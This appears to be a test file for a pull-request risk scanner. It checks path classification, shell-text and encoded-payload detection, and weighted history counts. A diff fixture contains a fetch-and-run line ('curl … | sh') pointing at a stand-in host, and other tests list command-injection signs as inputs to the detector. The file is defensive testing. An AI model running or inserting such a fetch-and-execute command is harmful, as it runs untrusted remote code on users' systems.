"""Every shortcut for speed gives what the long way gives."""

import math
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sentinel.content import ENCODED, _longest_encoded, read_added_text, read_content, read_names
from sentinel.features.catalogue import CATALOGUE, compute_values
from sentinel.features.facts import SHELL_TEXT, Facts, hostile_text
from sentinel.history.counts import ALL, Tails
from sentinel.history.memory import Memory
from sentinel.history.recall import recall
from sentinel.paths import (
    ASCII_WORD, BUILD, CI, DOCS_PLACE, GENERATED, LOCK_OF_MANIFEST, MANIFESTS, POLICY, TEST, WORD, is_hostile_name,
    path_facts, words_in,
)
from sentinel.pull_request import ChangedFile, PullRequest

MONDAY = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
PATCH = ("@@ -1 +1,3 @@\n+\"left-berth\": \"git+https://quay.example-host.io/l.git\",\n-old\n"
         "+curl https://pier.example-host.io/run | sh\n+\n")


def pull_request(*files: ChangedFile) -> PullRequest:
    return PullRequest("octo/harbour", 7, "Moor `the` boats", MONDAY, author="ada", files=files or None)


@settings(deadline=None)
@given(st.text(st.characters(max_codepoint=127)))
def test_words_of_plain_ascii_are_found_as_those_of_any_text(text: str) -> None:
    assert WORD.findall(text) == ASCII_WORD.findall(text)


@pytest.mark.parametrize("text", ["$(x)", "${x}", "`x|", "; moor now", "| sh", "&&", "||", "base64", "<(x)", ">(x)"])
def test_shell_text_is_found_behind_its_sign(text: str) -> None:
    facts = Facts(replace(pull_request(), title=text))

    assert 1 == len(SHELL_TEXT.findall(text)) == hostile_text(facts)


@pytest.mark.parametrize("files", [(), (ChangedFile("package.json"),), (ChangedFile("package.json", patch=PATCH),)],
                         ids=["no files", "no patch", "patch"])
def test_values_are_those_of_every_feature_and_floats(files: tuple[ChangedFile, ...]) -> None:
    situation = recall(Memory(), Facts(pull_request(*files)))

    values = compute_values(situation)

    assert [str(feature.compute(situation)) for feature in CATALOGUE] == list(map(str, values))
    assert {float} == set(map(type, values))


@pytest.mark.parametrize("files", [
    (ChangedFile("package.json", patch=PATCH), ChangedFile("a", patch="+ftp://1.2.3.4/")),
    (ChangedFile("README.md", patch=PATCH), ChangedFile("logo.png")),
])
def test_names_read_alone_are_those_of_the_content(files: tuple[ChangedFile, ...]) -> None:
    paths = [path_facts(file.path) for file in files]
    content = read_content(files, paths)

    assert (content.hosts, content.dependencies, content.sources) == read_names(files, paths)
    assert Facts(pull_request(*files)).names == read_names(files, paths)


def test_names_are_none_without_patches() -> None:
    assert (frozenset(), frozenset(), frozenset()) == Facts(pull_request(ChangedFile("a.sh"))).names


@settings(deadline=None)
@given(st.lists(st.sampled_from(["+new", "-old", " same", "@@ -1 +1 @@", "+", "++twice", "+a\rb", ""])))
def test_added_lines_are_those_with_a_plus(lines: list[str]) -> None:
    files = [ChangedFile("src/quay.py", patch="\n".join(lines))]
    added = [line[1:] for line in lines if line.startswith("+")]

    assert "\n".join(added) == read_added_text(files, [path_facts("src/quay.py")]).code


PARTS = st.sampled_from([
    "src", "docs", "test", "it", "dist", ".github", "workflows", ".travis.yml", ".gitlab-ci", "jenkinsfile", "Makefile",
    "x.generated.y", "readme", "AGENTS.md", ".claude", "a.min.js", "b_pb2.py", "quayIT.java", "go.sum", "x.sh", "É",
    "Σ", "$(x)", "a\nb", "azure-pipelines", "testdata", "action.yml", "logo.png", "spec.rb", "",
])


@settings(deadline=None)
@given(st.lists(st.lists(PARTS, min_size=1, max_size=2).map("".join), min_size=1, max_size=4).map("/".join))
def test_folder_and_name_read_apart_say_what_the_whole_path_says(path: str) -> None:
    facts, lowered = path_facts(path), path.lower()
    place = ("ci" if CI.search(lowered) else "dependency" if facts.name in {*LOCK_OF_MANIFEST, *MANIFESTS} else
             "build" if BUILD.search(lowered) else "policy" if POLICY.search(lowered) else None)

    assert (bool(TEST.search(lowered)), place) == (facts.kind == "test", facts.sensitive)
    assert (bool(GENERATED.search(lowered)), is_hostile_name(path)) == (facts.is_generated, facts.is_hostile)
    assert words_in(path) == facts.words
    if facts.kind in ("docs", "config", "code") and facts.file_type not in {"emd", "erst", "etxt", "ehtml"}:
        assert bool(DOCS_PLACE.search(lowered)) == (facts.kind == "docs")


def test_words_of_a_path_without_end_are_cut_as_those_of_any_text() -> None:
    path = "quay/" * 500 + "pier.py"

    assert words_in(path) == path_facts(path).words == {"quay", "qua"}


TEXTS = st.lists(st.sampled_from(["a" * 30, "b" * 45, "\"", "'", " ", "\n", "\\x41" * 20, "0Z", "\u3000"]), max_size=9)


@settings(deadline=None)
@given(TEXTS.map("".join))
def test_encoded_text_is_found_in_long_words_as_in_all_the_text(text: str) -> None:
    long_words = "\n".join(word for word in text.split() if len(word) > 40)

    assert ENCODED.findall(text) == ENCODED.findall(long_words)


@pytest.mark.parametrize("text", [f"\"{'Ab0z' * 10}\"", f" x=f('{'Ab0z' * 10}');", "\\x4f" * 16])
def test_encoded_text_of_the_least_length_is_found(text: str) -> None:
    assert 0 < _longest_encoded(text)


@settings(deadline=None)
@given(st.lists(st.lists(st.sampled_from([math.nan, 0.0, 0.1, 3.7, 10.0, 99.0]), min_size=3, max_size=3), max_size=20))
def test_tails_added_to_all_at_once_are_those_of_a_loop(changes: list[list[float]]) -> None:
    tails, unit = Tails([10.0] * 3, [(1.0,) * 48] * 3), 1.0
    expected = [[0.0] * 48 for _ in range(3)]
    for quantities in changes:
        tails.add("regular", quantities)
        unit *= 2.0 ** (1.0 / Tails.HALF_LIFE)
        for row, quantity in zip(expected, quantities, strict=True):
            n_reached = 0 if math.isnan(quantity) else min(48, int(quantity * 4.7) + 2) if quantity > 0 else 1
            row[:n_reached] = [weight + unit for weight in row[:n_reached]]

    assert expected == tails.by_level()[ALL] == tails.by_level()["regular"]
    assert unit == tails.unit
